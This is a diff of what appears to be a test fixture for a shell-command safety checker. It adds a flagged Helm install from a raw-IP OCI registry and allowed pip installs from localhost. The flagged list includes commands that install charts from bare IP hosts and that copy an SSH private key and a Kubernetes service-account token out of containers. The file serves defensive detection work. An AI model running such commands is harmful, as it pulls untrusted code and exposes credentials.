@@ -150,6 +150,7 @@ FLAGGED = [
     ("helm install x http://203.0.113.9/charts/x.tgz", "curl_pipe_shell"),
     ("helm repo add mirror http://45.3.2.1/charts", "curl_pipe_shell"),
     ("helm upgrade --install web nginx --repo https://185.1.2.3/charts", "curl_pipe_shell"),
+    ("helm install x oci://185.1.2.3:5000/charts/x", "curl_pipe_shell"),
     # keys copied out of containers
     ("docker cp app:/root/.ssh/id_rsa .", "read_secret"),
     ("kubectl cp default/web-0:/var/run/secrets/kubernetes.io/serviceaccount/token ./t", "read_secret"),
@@ -215,6 +216,7 @@ ALLOWED = [
     "curl -X DELETE localhost:9200/test-index", "http GET api.github.com/user",
     "helm repo add bitnami https://charts.bitnami.com/bitnami", "helm install web bitnami/nginx",
     "helm install x oci://registry-1.docker.io/bitnamicharts/nginx", "helm repo add local http://127.0.0.1:8879/charts",
+    "pip install http://127.0.0.1:8000/x-1.0.tar.gz", "pip install --no-deps http://localhost:3141/root/dev/x.whl",
     "docker cp ./config.yml app:/etc/app/config.yml", "docker cp app:/var/log/app.log .", "docker cp web:/app/dist ./dist",
     "kubectl cp web-0:/tmp/profile.out ./profile.out",
     "node -e \"console.log(require('fs').readFileSync('package.json','utf8'))\"",
